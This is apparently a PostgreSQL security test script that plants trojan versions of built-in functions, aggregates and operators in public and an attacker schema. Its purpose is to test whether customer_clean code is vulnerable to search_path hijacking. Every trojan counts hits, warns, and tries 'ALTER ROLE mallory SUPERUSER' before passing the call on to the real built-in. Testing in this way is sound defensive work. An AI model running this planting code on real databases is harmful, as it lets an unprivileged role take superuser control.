-- Trojans for every built-in customer_clean calls (issue 15), planted by
-- the unprivileged role mallory in `public` (CREATE granted, as on
-- PostgreSQL 13/14 and every upgraded database) and in its own schema
-- mallory_path, which victims have on their search path.
-- Run by tests/security/trojan.sh as mallory, with
--   -v funcs='name name …'  -v ops='sym sym …'   (from tests/security/builtins.py)
-- For each name, each pg_catalog signature of it gets a trojan with the
-- exact argument types (wins when its schema comes before pg_catalog) and
-- variants with polymorphic, "any", regclass and name arguments made
-- concrete (text, integer, bigint, jsonb), which beat pg_catalog even when
-- pg_catalog is searched first (public.nextval(text) beats
-- pg_catalog.nextval(regclass) for nextval('seq')). Functions with
-- defaults get one trojan per arity. Aggregates get trojan aggregates,
-- operators trojan operators. Every trojan, when it runs: advances the
-- sequence mallory_path.trojan_hits (not undone by a rollback), raises
-- WARNING 'TROJAN <trojan> ran as <role>' (once per session and role),
-- tries ALTER ROLE mallory SUPERUSER, then does what the built-in would so
-- that the caller carries on.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
SET search_path = pg_catalog, pg_temp;

CREATE SEQUENCE mallory_path.trojan_hits;
GRANT USAGE ON SCHEMA mallory_path TO PUBLIC;
GRANT USAGE, SELECT ON SEQUENCE mallory_path.trojan_hits TO PUBLIC;

CREATE FUNCTION mallory_path.trojan_fire(label text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $fire$
DECLARE
    seen text := coalesce(current_setting('mallory.seen', true), '');
    key text := '|' || label || ' as ' || current_user || '|';
BEGIN
    PERFORM nextval('mallory_path.trojan_hits'::regclass);
    IF strpos(seen, key) = 0 THEN
        PERFORM set_config('mallory.seen', seen || key, false);
        RAISE WARNING 'TROJAN % ran as %', label, current_user;
        BEGIN
            EXECUTE 'ALTER ROLE mallory SUPERUSER';
            RAISE WARNING 'TROJAN % made mallory a superuser (ran as %)', label, current_user;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END IF;
END
$fire$;

SELECT set_config('mallory.funcs', :'funcs', false), set_config('mallory.ops', :'ops', false) \g /dev/null
CREATE TABLE mallory_path.planted (kind text, schema_name text, signature text, ok boolean, error text);

-- A type for a trojan's argument: the built-in's own type (family
-- 'exact', polymorphic kept), or a concrete one that beats it.
CREATE FUNCTION mallory_path.subst(t oid, family text) RETURNS text
LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    elem text := CASE family WHEN 'text' THEN 'text' WHEN 'int' THEN 'integer' WHEN 'bigint' THEN 'bigint'
                             WHEN 'jsonb' THEN 'jsonb' END;
    tn text := format_type(t, NULL);
BEGIN
    IF tn IN ('internal', 'cstring', 'language_handler', 'fdw_handler', 'index_am_handler', 'tsm_handler',
              'table_am_handler', 'trigger', 'event_trigger', 'opaque', 'anyrange', 'anymultirange',
              'anycompatiblerange', 'anycompatiblemultirange', 'pg_ddl_command', 'unknown') THEN
        RETURN NULL;
    END IF;
    IF family = 'exact' THEN
        RETURN CASE WHEN tn = '"any"' THEN NULL ELSE tn END;
    END IF;
    IF tn IN ('anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray', '"any"') THEN
        RETURN elem;
    ELSIF tn IN ('anyarray', 'anycompatiblearray') THEN
        RETURN elem || '[]';
    ELSIF tn = 'anyenum' THEN
        RETURN NULL;
    ELSIF family = 'text' AND tn IN ('regclass', 'regtype', 'regproc', 'regprocedure', 'regnamespace', 'regrole',
                                     'regconfig', 'name', '"char"', 'character varying', 'character') THEN
        RETURN 'text';
    END IF;
    RETURN tn;
END
$$;

DO $plant$
DECLARE
    funcs text[] := string_to_array(current_setting('mallory.funcs'), ' ');
    ops text[] := string_to_array(current_setting('mallory.ops'), ' ');
    p record;
    o record;
    fam text;
    sch text;
    n int := 0;
    nin int;
    i int;
    ins oid[];
    decl text[];
    call_args text[];
    outs text[];
    ty text;
    ret text;
    sig text;
    fname text;
    label text;
    body text;
    stype text;
    agg_kind "char";
    done text[] := '{}';
    lt text;
    rt text;
    rett text;
BEGIN
    FOR p IN SELECT f.oid, f.proname::text AS name, f.prokind, f.proretset, f.provariadic, f.pronargs, f.pronargdefaults,
                    f.proargtypes::oid[] AS argtypes, f.prorettype, f.proallargtypes, f.proargmodes, f.proargnames,
                    a.aggkind
               FROM pg_proc f LEFT JOIN pg_aggregate a ON a.aggfnoid = f.oid
              WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.proname = ANY (funcs)
              ORDER BY f.proname, f.oid LOOP
        -- A window function (row_number, lag) gets a trojan aggregate of the
        -- same name: with OVER (…) an aggregate works as a window function.
        IF p.prokind = 'a' AND p.aggkind <> 'n' THEN
            INSERT INTO mallory_path.planted VALUES ('skipped', NULL, p.oid::regprocedure::text, false,
                                                     'ordered-set aggregate');
            CONTINUE;
        END IF;
        FOREACH fam IN ARRAY ARRAY['exact', 'text', 'int', 'bigint', 'jsonb'] LOOP
          FOR nin IN p.pronargs - p.pronargdefaults .. p.pronargs LOOP
            decl := '{}'; call_args := '{}'; sig := '';
            FOR i IN 1 .. nin LOOP
                ty := mallory_path.subst(p.argtypes[i - 1 + array_lower(p.argtypes, 1)], fam);
                EXIT WHEN ty IS NULL;
                IF i = p.pronargs AND p.provariadic <> 0 THEN
                    -- VARIADIC "any" becomes VARIADIC <concrete>[]; VARIADIC x[] stays
                    IF p.argtypes[i - 1 + array_lower(p.argtypes, 1)] = '"any"'::regtype THEN
                        ty := ty || '[]';
                    END IF;
                    decl := decl || ('VARIADIC ' || ty);
                    call_args := call_args || format('VARIADIC $%s', i);
                ELSE
                    decl := decl || ty;
                    call_args := call_args || CASE
                        WHEN format_type(p.argtypes[i - 1 + array_lower(p.argtypes, 1)], NULL) = ty
                          OR format_type(p.argtypes[i - 1 + array_lower(p.argtypes, 1)], NULL) LIKE 'any%'
                          OR p.argtypes[i - 1 + array_lower(p.argtypes, 1)] = '"any"'::regtype
                        THEN format('$%s', i)
                        ELSE format('$%s::%s', i, format_type(p.argtypes[i - 1 + array_lower(p.argtypes, 1)], NULL)) END;
                END IF;
                sig := sig || ty || ',';
            END LOOP;
            IF coalesce(array_length(decl, 1), 0) <> nin THEN
                IF fam = 'exact' THEN
                    INSERT INTO mallory_path.planted VALUES ('skipped', NULL, p.oid::regprocedure::text, false,
                                                             'argument type a PL/pgSQL function cannot take');
                END IF;
                CONTINUE;
            END IF;
            -- the result type, made concrete the same way
            ret := mallory_path.subst(p.prorettype, fam);
            IF ret IS NULL AND format_type(p.prorettype, NULL) = 'record' THEN
                ret := 'record';
            END IF;
            CONTINUE WHEN ret IS NULL;
            IF fam <> 'exact' AND format_type(p.prorettype, NULL) LIKE 'any%' AND NOT EXISTS (
                    SELECT 1 FROM unnest(p.argtypes) t WHERE format_type(t, NULL) LIKE 'any%') THEN
                CONTINUE;
            END IF;
            -- OUT and TABLE columns, same names
            outs := '{}';
            IF p.proargmodes IS NOT NULL THEN
                FOR i IN 1 .. array_length(p.proargmodes, 1) LOOP
                    IF p.proargmodes[i] IN ('o', 't', 'b') THEN
                        ty := mallory_path.subst(p.proallargtypes[i], fam);
                        IF ty IS NULL THEN outs := NULL; EXIT; END IF;
                        outs := outs || format('OUT %s %s', quote_ident(coalesce(p.proargnames[i], 'o' || i)), ty);
                    END IF;
                END LOOP;
                CONTINUE WHEN outs IS NULL;
            END IF;
            sig := p.name || '(' || sig || ')';
            CONTINUE WHEN sig = ANY (done);   -- a variant equal to one already planted
            done := done || sig;

            FOREACH sch IN ARRAY ARRAY['public', 'mallory_path'] LOOP
                n := n + 1;
                fname := 'trojan_' || n;
                label := format('%s.%s(%s)', sch, p.name, array_to_string(decl, ', '));
                BEGIN
                    IF p.prokind IN ('a', 'w') THEN
                        -- a trojan aggregate: its state function fires
                        stype := CASE WHEN p.name = 'count' THEN 'bigint' ELSE ret END;
                        body := CASE
                            WHEN p.name = 'count' AND nin = 0 THEN '$1 OPERATOR(pg_catalog.+) 1'
                            WHEN p.name = 'count' THEN 'CASE WHEN $2 IS NULL THEN $1 ELSE $1 OPERATOR(pg_catalog.+) 1 END'
                            WHEN p.name = 'array_agg' AND format_type(p.argtypes[0], NULL) LIKE '%array%' OR ret LIKE '%[][]'
                                THEN 'pg_catalog.array_cat($1, ARRAY[$2])'
                            WHEN p.name = 'array_agg' THEN 'pg_catalog.array_append($1, $2)'
                            WHEN p.name = 'jsonb_agg' THEN
                                'pg_catalog.jsonb_concat(COALESCE($1, ''[]''::jsonb), pg_catalog.jsonb_build_array($2))'
                            WHEN p.name = 'string_agg' AND ret = 'text' THEN
                                'CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE pg_catalog.concat($1, $3, $2) END'
                            WHEN p.name = 'jsonb_object_agg' THEN
                                'pg_catalog.jsonb_concat(COALESCE($1, ''{}''::jsonb), pg_catalog.jsonb_build_object($2, $3))'
                            WHEN p.name IN ('sum') THEN format('CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN CAST($2 AS %s) ELSE $1 OPERATOR(pg_catalog.+) $2 END', ret)
                            WHEN p.name = 'min' THEN 'CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE LEAST($1, $2) END'
                            WHEN p.name = 'max' THEN 'CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE GREATEST($1, $2) END'
                            WHEN p.name IN ('bool_or') THEN 'CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE $1 OR $2 END'
                            WHEN p.name IN ('bool_and', 'every') THEN 'CASE WHEN $2 IS NULL THEN $1 WHEN $1 IS NULL THEN $2 ELSE $1 AND $2 END'
                            ELSE '$1' END;
                        EXECUTE format('CREATE FUNCTION mallory_path.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                            fname, array_to_string(stype || decl, ', '), stype,
                            format('BEGIN PERFORM mallory_path.trojan_fire(%L); RETURN %s; END', label, body));
                        EXECUTE format('CREATE AGGREGATE %I.%I(%s) (SFUNC = mallory_path.%I, STYPE = %s%s)',
                            sch, p.name, CASE WHEN nin = 0 THEN '*' ELSE array_to_string(decl, ', ') END, fname, stype,
                            CASE WHEN p.name = 'count' THEN ', INITCOND = ''0''' ELSE '' END);
                    ELSE
                        IF p.proretset THEN
                            body := format('RETURN QUERY SELECT * FROM pg_catalog.%I(%s); RETURN;', p.name, array_to_string(call_args, ', '));
                        ELSIF array_length(outs, 1) > 0 THEN
                            body := format('SELECT * INTO %s FROM pg_catalog.%I(%s); RETURN;',
                                (SELECT string_agg(split_part(x, ' ', 2), ', ') FROM unnest(outs) x), p.name, array_to_string(call_args, ', '));
                        ELSIF ret = 'void' THEN
                            body := format('PERFORM pg_catalog.%I(%s); RETURN;', p.name, array_to_string(call_args, ', '));
                        ELSE
                            body := format('RETURN pg_catalog.%I(%s);', p.name, array_to_string(call_args, ', '));
                        END IF;
                        EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                            sch, p.name, array_to_string(decl || outs, ', '),
                            CASE WHEN array_length(outs, 1) = 1 THEN CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || ret
                                 WHEN array_length(outs, 1) > 1 THEN CASE WHEN p.proretset THEN 'SETOF record' ELSE 'record' END
                                 WHEN p.proretset THEN 'SETOF ' || ret ELSE ret END,
                            format(E'BEGIN\n  PERFORM mallory_path.trojan_fire(%L);\n  %s\nEND', label, body));
                    END IF;
                    INSERT INTO mallory_path.planted VALUES (CASE WHEN p.prokind IN ('a', 'w') THEN 'aggregate' ELSE 'function' END,
                                                             sch, label, true, NULL);
                EXCEPTION WHEN OTHERS THEN
                    INSERT INTO mallory_path.planted VALUES (CASE WHEN p.prokind IN ('a', 'w') THEN 'aggregate' ELSE 'function' END,
                                                             sch, label, false, SQLERRM);
                END;
            END LOOP;
          END LOOP;
        END LOOP;
    END LOOP;

    -- Operators: the built-in's operand types, and concrete ones for its
    -- polymorphic operands.
    done := '{}';
    FOR o IN SELECT op.oid, op.oprname::text AS name, op.oprkind, op.oprleft, op.oprright, op.oprresult
               FROM pg_operator op
              WHERE op.oprnamespace = 'pg_catalog'::regnamespace AND op.oprname = ANY (ops) AND op.oprkind IN ('b', 'l')
              ORDER BY op.oprname, op.oid LOOP
        FOREACH fam IN ARRAY ARRAY['exact', 'text', 'int', 'bigint', 'jsonb'] LOOP
            lt := CASE WHEN o.oprkind = 'l' THEN NULL ELSE mallory_path.subst(o.oprleft, fam) END;
            rt := mallory_path.subst(o.oprright, fam);
            rett := mallory_path.subst(o.oprresult, fam);
            IF rt IS NULL OR rett IS NULL OR (o.oprkind = 'b' AND lt IS NULL) THEN
                IF fam = 'exact' THEN
                    INSERT INTO mallory_path.planted VALUES ('skipped', NULL, o.oid::regoperator::text, false,
                                                             'operand type a PL/pgSQL function cannot take');
                END IF;
                CONTINUE;
            END IF;
            sig := format('%s(%s,%s)', o.name, coalesce(lt, 'NONE'), rt);
            CONTINUE WHEN sig = ANY (done);
            done := done || sig;
            FOREACH sch IN ARRAY ARRAY['public', 'mallory_path'] LOOP
                n := n + 1;
                fname := 'trojan_' || n;
                label := format('%s.%s(%s, %s)', sch, o.name, coalesce(lt, 'NONE'), rt);
                BEGIN
                    IF o.oprkind = 'l' THEN
                        EXECUTE format('CREATE FUNCTION mallory_path.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', fname, rt, rett,
                            format('BEGIN PERFORM mallory_path.trojan_fire(%L); RETURN OPERATOR(pg_catalog.%s) $1; END', label, o.name));
                        EXECUTE format('CREATE OPERATOR %I.%s (RIGHTARG = %s, FUNCTION = mallory_path.%I)', sch, o.name, rt, fname);
                    ELSE
                        EXECUTE format('CREATE FUNCTION mallory_path.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', fname, lt, rt, rett,
                            format('BEGIN PERFORM mallory_path.trojan_fire(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', label, o.name));
                        EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = mallory_path.%I)',
                                       sch, o.name, lt, rt, fname);
                    END IF;
                    INSERT INTO mallory_path.planted VALUES ('operator', sch, label, true, NULL);
                EXCEPTION WHEN OTHERS THEN
                    INSERT INTO mallory_path.planted VALUES ('operator', sch, label, false, SQLERRM);
                END;
            END LOOP;
        END LOOP;
    END LOOP;
END
$plant$;

SELECT kind, count(*) FILTER (WHERE ok) AS planted, count(*) FILTER (WHERE NOT ok) AS refused
  FROM mallory_path.planted GROUP BY kind ORDER BY kind;
